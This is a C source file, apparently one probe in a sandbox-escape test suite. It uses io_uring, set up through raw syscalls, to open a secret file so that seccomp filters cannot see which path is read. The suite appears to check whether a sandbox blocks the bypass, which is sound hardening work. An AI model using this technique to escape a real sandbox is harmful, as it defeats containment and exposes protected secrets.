/*
 * Attack 8: io_uring: the kernel opens and connects for the program, and no seccomp filter sees which file.
 * An escape: a ring that can be made at all (ring), or the secret's bytes through it (open).
 */
#include <linux/io_uring.h>
#include <sys/mman.h>

#include "escape.h"

struct ring {
	int fd;
	struct io_uring_params p;
	char *sq, *cq;
	struct io_uring_sqe *sqe;
};

static int ring_open(struct ring *r)
{
	memset(r, 0, sizeof(*r));
	r->fd = (int)esc_sys(SYS_io_uring_setup, 4, &r->p);
	if (r->fd < 0)
		return r->fd;
	size_t sq = r->p.sq_off.array + r->p.sq_entries * sizeof(unsigned int);
	size_t cq = r->p.cq_off.cqes + r->p.cq_entries * sizeof(struct io_uring_cqe);
	r->sq = mmap(NULL, sq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
	r->cq = mmap(NULL, cq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_CQ_RING);
	r->sqe = mmap(NULL, r->p.sq_entries * sizeof(*r->sqe), PROT_READ | PROT_WRITE, MAP_SHARED,
	              r->fd, IORING_OFF_SQES);
	return r->sq == MAP_FAILED || r->cq == MAP_FAILED || r->sqe == MAP_FAILED ? -ENOMEM : 0;
}

/* One request, waited for; its result. */
static int ring_do(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned int *tail = (unsigned int *)(r->sq + r->p.sq_off.tail);
	unsigned int *array = (unsigned int *)(r->sq + r->p.sq_off.array);
	unsigned int *head = (unsigned int *)(r->cq + r->p.cq_off.head);
	struct io_uring_cqe *cqe = (struct io_uring_cqe *)(r->cq + r->p.cq_off.cqes);

	r->sqe[0] = *sqe;
	array[*tail & (r->p.sq_entries - 1)] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	long n = esc_sys(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (n < 0)
		return (int)n;
	int res = cqe[*head & (r->p.cq_entries - 1)].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return res;
}

static int way_ring(void)
{
	struct ring r;

	return esc_verdict("io_uring_setup", ring_open(&r));
}

static int way_open(void)
{
	struct io_uring_sqe sqe = {.opcode = IORING_OP_OPENAT,
	                           .fd = AT_FDCWD,
	                           .addr = (uintptr_t)esc_secret(),
	                           .open_flags = O_RDONLY};
	struct ring r;
	int rc = ring_open(&r);

	if (rc < 0)
		return esc_verdict("io_uring_setup", rc);
	return esc_opened("IORING_OP_OPENAT", ring_do(&r, &sqe));
}

static const struct esc_way ways[] = {{"ring", way_ring}, {"open", way_open}};
ESC_MAIN(ways)
